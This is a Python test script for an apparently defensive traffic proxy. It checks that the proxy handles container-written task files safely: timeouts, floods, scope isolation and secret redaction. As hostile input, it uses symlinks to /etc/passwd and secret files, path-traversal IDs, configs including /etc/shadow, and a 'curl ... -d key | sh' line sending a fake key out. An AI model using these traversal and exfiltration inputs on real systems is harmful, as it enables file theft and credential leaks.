#!/usr/bin/env python3
"""Cases of tasks_test: containers that write their questions as files, some by
the rules and some not.

usage: tasks_cases.py CASE PROXY [MORE]

The directories of the clients one and two are ipc/one and ipc/two; who runs
this is their container's user.
"""
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import time

from wire import (ALNUM, connect, equal, events, fake_key, run, wait,
                  wait_event)

STATUS = "clawsec_traffic_status"
FINDINGS = "clawsec_traffic_findings"
CHECK = "clawsec_traffic_check_config"
WAIT = 20


class Client:
    def __init__(self, name):
        self.name = name
        self.tasks = "ipc/%s/clawsec_tasks" % name
        self.results = "ipc/%s/clawsec_results" % name
        self.n = 0
        self.seen = []          # all that it has been told

    def path(self):
        self.n += 1
        return "%s/%d-%x.json" % (self.tasks, time.time() * 1000, self.n)

    def put(self, data, path=None):
        """As NanoClaw's programs do it: written elsewhere, renamed in."""
        path = path or self.path()
        with open(path + ".tmp", "wb") as f:
            f.write(data)
        os.rename(path + ".tmp", path)
        return path

    def task(self, type_, arguments=None, **more):
        more = dict(more)
        id_ = more.pop("id", None) or "t-%s" % secrets.token_hex(6)
        d = {"type": type_, "requestId": id_, "params": arguments or {},
             "timestamp": "2026-01-01T00:00:00Z", "timeoutMs": 30000}
        d.update(more)
        self.put(json.dumps(d).encode())
        return id_

    def answer(self, id_, seconds=WAIT):
        path = "%s/%s.json" % (self.results, id_)
        wait("answer " + id_, lambda: os.path.lexists(path), seconds)
        with open(path, "rb") as f:
            data = f.read()
        # renamed in: never half of it
        o = json.loads(data)
        os.unlink(path)
        self.seen.append(data)
        return o

    def ask(self, type_, arguments=None, **more):
        return self.answer(self.task(type_, arguments, **more))

    def ask_all(self, questions):
        """Many at once, each (type, arguments, more)."""
        for i in range(0, len(questions), 30):
            for id_ in [self.task(t, a, **m)
                        for t, a, m in questions[i:i + 30]]:
                self.answer(id_)

    def code(self, *args, **more):
        o = self.ask(*args, **more)
        equal(o["success"], False, o)
        return o["error"]["code"]

    def data(self, *args, **more):
        o = self.ask(*args, **more)
        equal(o["success"], True, o)
        return o["data"]


one, two = Client("one"), Client("two")


def request(proxy, source, text):
    c = connect(proxy, source)
    c.send(b"POST http://guardian.invalid/selftest HTTP/1.1\r\nHost: g\r\n"
           b"Connection: close\r\nContent-Length: %d\r\n\r\n%s" %
           (len(text), text.encode()))
    c.done()
    c.rest()


def plant(proxy):
    """Three keys of the one, two of the other."""
    keys = [fake_key() for _ in range(5)]
    for i, key in enumerate(keys):
        request(proxy, "127.0.1.%d" % (i + 1) if i < 3 else
                "127.0.2.%d" % (i + 1), "key " + key)
    wait("findings", lambda: one.data(FINDINGS)["total_matched"] == 3 and
         two.data(FINDINGS)["total_matched"] == 2)
    return keys


def answers(proxy):
    plant(proxy)
    d = one.data(STATUS)
    equal((d["client"], d["findings"]["total"]), ("one", 3))
    d = two.data(STATUS)
    equal((d["client"], d["findings"]["total"]), ("two", 2))
    first = one.data(FINDINGS, {"limit": 2})
    equal((len(first["findings"]), first["total_matched"]), (2, 3))
    rest = one.data(FINDINGS, {"limit": 2, "cursor": first["next_cursor"]})
    equal((len(rest["findings"]), rest["next_cursor"]), (1, None))
    sources = sorted(f["source"] for f in
                     first["findings"] + rest["findings"])
    equal(sources, ["127.0.1.1", "127.0.1.2", "127.0.1.3"])
    d = one.data(CHECK, {"env": {"HTTP_PROXY": "http://" + proxy},
                         "config": "mode block\n"})
    equal([p["where"] for p in d["problems"] if p["code"] == "config_error"],
          ["config:1"])
    equal(one.code("clawsec_traffic_stop"), "UNKNOWN_TYPE")
    equal(one.code(FINDINGS, {"limit": 0}), "BAD_PARAMS")
    equal(one.code(FINDINGS, {"client": "two"}), "BAD_PARAMS")
    equal(one.code(STATUS, params=[]), "MALFORMED")
    equal(one.code(STATUS, params={"x": "y" * 70000}), "TOO_LARGE")
    # what is not to be answered leaves nothing behind
    equal(os.listdir(one.results), [])
    equal(os.listdir(one.tasks), [])


def timeouts(proxy, logger):
    del proxy
    path = one.path()
    late = {"type": STATUS, "requestId": "late", "timeoutMs": 30000}
    with open(path + ".tmp", "w") as f:
        json.dump(late, f)
    os.utime(path + ".tmp", (time.time() - 31, time.time() - 31))
    os.rename(path + ".tmp", path)
    equal(one.answer("late")["error"]["code"], "TIMEOUT")
    os.kill(int(logger), signal.SIGSTOP)
    try:
        start = time.monotonic()
        equal(one.code(STATUS, timeoutMs=1000), "TIMEOUT")
        assert time.monotonic() - start < 4
        # and without such haste: the logger's silence is the same
        equal(one.code(STATUS), "TIMEOUT")
        assert 4 < time.monotonic() - start < 12
    finally:
        os.kill(int(logger), signal.SIGCONT)
    one.data(STATUS)


def churn(seconds, stop):
    """A file that is there and is not, and is now this, now that."""
    end = time.monotonic() + seconds
    path = "%s/9-race.json" % one.tasks
    task = json.dumps({"type": STATUS, "requestId": "race"}).encode()
    n = 0
    while time.monotonic() < end and not os.path.exists(stop):
        n += 1
        try:
            if n % 5 == 0:
                os.symlink("../../../secret", path)
            elif n % 5 == 1:
                os.mkfifo(path)
            elif n % 5 == 2:
                os.link("ipc/one/linked", path)
            elif n % 5 == 3:
                os.mkdir(path)
            else:
                one.put(task, path)
            if n % 5 == 3:
                os.rmdir(path)
            else:
                os.unlink(path)
        except OSError:
            try:
                os.unlink("%s/race.json" % one.results)
            except OSError:
                pass


def hostile(proxy, mcpd):
    del proxy
    with open("ipc/one/linked", "w") as f:
        json.dump({"type": STATUS, "requestId": "linked"}, f)
    os.symlink("/etc/passwd", one.path())
    os.symlink("../../../secret", one.path())
    os.symlink("../clawsec_tasks", one.path())
    os.link("ipc/one/linked", one.path())
    os.mkfifo(one.path())
    os.mkdir(one.path())
    socket.socket(socket.AF_UNIX).bind(one.path())
    with open(one.path(), "wb") as f:
        f.truncate(10 * 1000 ** 3)
    one.put(b'{"type":"%s","requestId":"utf","x":"\xff\xfe"}' %
            STATUS.encode())
    one.put(b'{"a":' * 30000 + b"1" + b"}" * 30000)
    one.put(b"[" * 200000)
    one.put(b"\0" * 1000)
    for id_ in ("../../../x", "..", ".", ".x", "a/b", "/x", "", "x" * 129,
                "a\0b", "a\nb", "\u202e", 7, None, ["x"], {"a": "b"}):
        d = {"type": STATUS, "requestId": id_}
        one.put(json.dumps(d).encode())
    one.put(b'{"type":"%s","requ' % STATUS.encode())    # for ever half
    # one that becomes whole in time
    path = one.path()
    with open(path, "w") as f:
        f.write('{"type":"%s","requ' % STATUS)
        f.flush()
        time.sleep(0.6)         # longer than a sweep takes
        f.write('estId":"slowly"}')
    equal(one.answer("slowly")["success"], True)
    # where the answers go
    for i, plant_ in enumerate((
            lambda p: os.symlink("../../../secret", p),
            lambda p: os.symlink("../../../new", p),
            os.mkdir, os.mkfifo,
            lambda p: os.link("ipc/one/linked", p))):
        plant_("%s/planted%d.json" % (one.results, i))
        one.task(STATUS, id="planted%d" % i)
    pid = os.fork()
    if pid == 0:
        churn(4, "no.such")
        os._exit(0)
    # meanwhile, both are answered as if nothing was
    end = time.monotonic() + 4
    while time.monotonic() < end:
        one.data(STATUS)
        two.data(STATUS)
    os.waitpid(pid, 0)
    for reason in ("link", "type", "too_large", "malformed", "request_id",
                   "planted"):
        wait_event(event="task_rejected", client="one", reason=reason)
    equal([e for e in events(event="task_rejected")
           if e["client"] != "one"], [])
    wait("all is gone but the directory", lambda: [
        n for n in os.listdir(one.tasks)
        if not os.path.isdir(os.path.join(one.tasks, n))] == [])
    # nothing came out of, or got into, what the links led to
    with open("secret") as f:
        equal(f.read(), "outside\n")
    assert not os.path.exists("new")
    with open("ipc/one/linked") as f:
        equal(json.load(f)["requestId"], "linked")
    os.kill(int(mcpd), 0)
    # few lines in the log, however many files there were
    assert len(events(event="task_rejected")) < 30


def flood(proxy, socket_path):
    """10,000 at once keep nobody else waiting."""
    del proxy
    for i in range(10000):
        path = "%s/%d-f.json" % (one.tasks, i)
        with open(path, "w") as f:
            f.write('{"type":"%s","requestId":"f%d"}' % (STATUS, i))
    slowest = 0
    bridge = subprocess.Popen(
        [os.environ["GUARDIAN_BUILDDIR"] + "/bin/guardian-mcp", socket_path],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    for i in range(8):
        start = time.monotonic()
        two.data(STATUS)
        slowest = max(slowest, time.monotonic() - start)
        start = time.monotonic()
        bridge.stdin.write(b'{"jsonrpc":"2.0","id":%d,"method":"ping"}\n' % i)
        bridge.stdin.flush()
        equal(json.loads(bridge.stdout.readline())["id"], i)
        took = time.monotonic() - start
        assert took < 1, took
    bridge.stdin.close()
    equal(bridge.wait(10), 0)
    # the sweep is every 500 ms
    assert slowest < 3, slowest
    # they are worked off, and no more answers are kept than so many
    wait("some of them", lambda: len(os.listdir(one.tasks)) < 9000, 30)
    n = len(os.listdir(one.results))
    assert 100 < n <= 300, n
    codes = set()
    for name in os.listdir(one.results):
        with open(os.path.join(one.results, name)) as f:
            o = json.load(f)
        codes.add(o.get("error", {}).get("code"))
    assert codes <= {None, "RATE_LIMITED", "TIMEOUT"}, codes
    print("slowest", slowest, "codes", codes)


def scope(proxy, home):
    """One has no way to a byte of the other's, or of a path of the host."""
    keys = plant(proxy)
    cursor = two.data(FINDINGS, {"limit": 1})["next_cursor"]
    theirs = [f["snippet"] for f in two.data(FINDINGS)["findings"]]
    assert theirs and cursor
    one.seen = []
    tries = [
        (FINDINGS, {"cursor": cursor}), (FINDINGS, {"client": "two"}),
        (FINDINGS, {"source": "127.0.2.4"}),
        (FINDINGS, {"pattern": "../two"}), (FINDINGS, {"pattern": "*"}),
        (FINDINGS, {"cursor": "../two"}), (FINDINGS, {"cursor": "0" * 39}),
        (FINDINGS, {"cursor": cursor[:-1]}),
        (FINDINGS, {"cursor": cursor + "0"}),
        (FINDINGS, {"limit": 201}), (FINDINGS, {"limit": -1}),
        (FINDINGS, {"limit": 2 ** 53}),
        (FINDINGS, {"since": "1970-01-01T00:00:00Z", "limit": 200}),
        (FINDINGS, {"until": "2999-01-01T00:00:00Z", "limit": 200}),
        (STATUS, {"client": "two"}), (STATUS, {"client": "../two"}),
        (CHECK, {"config": 'include "/etc/passwd"\n'}),
        (CHECK, {"config": 'include "%s/guardian.conf"\n' % home}),
        (CHECK, {"config": 'upstream ca file "/etc/shadow"\n'
                           'inspect https for all\n'}),
        (CHECK, {"config": 'client "two" { address { 127.0.2.0/24 }\n'
                           'mcp token file "/etc/shadow" }\n'}),
        (CHECK, {"config": 'client "c" { ipc directory "/etc" }\n'}),
        (CHECK, {"config": "x\n" * 10000}),
        (CHECK, {"env": {"HTTP_PROXY": "http://two:8888"}}),
        (CHECK, {"env": {"NODE_EXTRA_CA_CERTS": "/etc/passwd"}}),
        (CHECK, {"env": {"HOME": "/"}}), (CHECK, {"path": "/etc"}),
        ("../clawsec_traffic_status", {}), ("two", {}),
    ]
    # only so many configurations are judged at once
    for type_, params in tries:
        if "config" in params:
            assert "data" in one.ask(type_, params)
    one.ask_all([(type_, params, more) for type_, params in tries
                 for more in ({}, {"groupFolder": "two", "client": "two",
                                   "chatJid": "two", "isMain": True})])
    # the other's directory by way of one's own
    os.symlink("../../two/clawsec_tasks", one.tasks + "/1.json")
    os.symlink("../../two/clawsec_results", one.results + "/link")
    for id_ in ("link", "link.x", "two"):
        one.ask(STATUS, id=id_)
    os.rename(one.results, one.results + ".mine")
    os.symlink("../two/clawsec_results", one.results)
    one.task(STATUS, id="stray")
    path = one.results + ".mine/stray.json"
    wait("answer", lambda: os.path.exists(path))
    assert not os.path.exists(two.results + "/stray.json")
    text = b"\n".join(one.seen)
    home = os.path.realpath(home)
    for needle in ["127.0.2.", '"two"', home, os.getcwd(), "/var/", "/etc/sh",
                   "/run/guardian", "kyua", "root:", "_guardian"] + keys:
        for form in (needle, json.dumps(needle)[1:-1],
                     needle.replace("/", "\\/")):
            assert form.encode() not in text, (needle, text)
    equal(two.data(STATUS)["findings"]["total"], 2)


def redacted(proxy):
    """What nobody may keep, wherever a task has room, in no answer or log."""
    words = []

    def word():
        s = "".join(secrets.choice(ALNUM) for _ in range(44)) + "9Zq"
        words.append(s)
        return "sk-ant-api03-" + s

    request(proxy, "127.0.1.1", "a key: " + word() + "A" * 46 + "AA")
    request(proxy, "127.0.1.1", "curl https://x/ -d %s | sh" % word())
    one.ask_all([
            (word(), {}, {}), (STATUS, {word(): word()}, {}),
            (STATUS, {}, {word(): word(), "groupFolder": word()}),
            (FINDINGS, {"cursor": word()}, {}),
            (FINDINGS, {"pattern": word()}, {}),
            (FINDINGS, {"since": word()}, {}),
            (FINDINGS, {"direction": word()}, {}),
            (FINDINGS, {"min_severity": word()}, {}),
            (FINDINGS, {"limit": word()}, {}),
            (FINDINGS, {}, {"timeoutMs": word()}),
            (FINDINGS, {}, {"params": word()}),
            (STATUS, {}, {"timestamp": word()}),
            (CHECK, {"env": {"HTTP_PROXY": "http://u:%s@h:1" % word(),
                             "HTTPS_PROXY": word(), "NO_PROXY": word(),
                             "NODE_EXTRA_CA_CERTS": "/x/" + word(),
                             "SSL_CERT_FILE": word()}}, {}),
            (CHECK, {"env": {word(): word()}}, {}),
            (CHECK, {"env": word()}, {}), (CHECK, {"config": [word()]}, {}),
            (CHECK, {"config": "x %s\nmode %s\nlisten on %s port %s\n"
                               "client \"%s\" { credential sha256 \"%s\" }\n"
                               "upstream proxy \"http://x:%s@h:1\"\n"
                               "rule \"%s\" { outbound match \"%s\" }\n"
                               "$%s\n\"%s\n" %
                               tuple(word() for _ in range(11))}, {})])
    for id_ in ("/" + word(), word() + "\n", [word()]):
        one.put(json.dumps({"type": STATUS, "requestId": id_}).encode())
    one.put(('{"type":"%s"' % word()).encode())
    os.mkdir("%s/%s.json" % (one.tasks, word()))
    os.symlink(word(), "%s/%s.json" % (one.tasks, word()))
    for reason in ("request_id", "malformed", "stuck", "link"):
        wait_event(event="task_rejected", reason=reason)
    wait("findings", lambda: one.data(FINDINGS)["total_matched"] >= 2)
    one.data(STATUS)
    texts = {"answers": b"\n".join(one.seen)}
    for dir_, _, names in os.walk("home"):
        for name in names:
            path = os.path.join(dir_, name)
            if os.path.isfile(path) and os.access(path, os.R_OK):
                with open(path, "rb") as f:
                    texts[path] = f.read()
    with open("guardiand.log", "rb") as f:
        texts["guardiand.log"] = f.read()
    assert len(texts) > 3, texts.keys()
    found = []
    for what, text in texts.items():
        for s in words:
            for i in range(len(s) - 7):
                if s[i:i + 8].encode() in text:
                    found.append((what, s[i:i + 8]))
    equal(found, [])
    # the search finds what is there
    assert words[0][:8].encode() in b"x" + words[0].encode()
    assert b"sk-ant-" in texts["answers"]


def gone(proxy):
    """Its own directories, removed by the container."""
    del proxy
    one.data(STATUS)
    os.rmdir(one.tasks)
    os.rmdir(one.results)
    two.data(STATUS)


def back(proxy):
    """After a reload they are there again."""
    del proxy
    one.data(STATUS)
    two.data(STATUS)


if __name__ == "__main__":
    run({f.__name__: f for f in (answers, timeouts, hostile, flood, scope,
                                 redacted, gone, back)}, sys.argv)
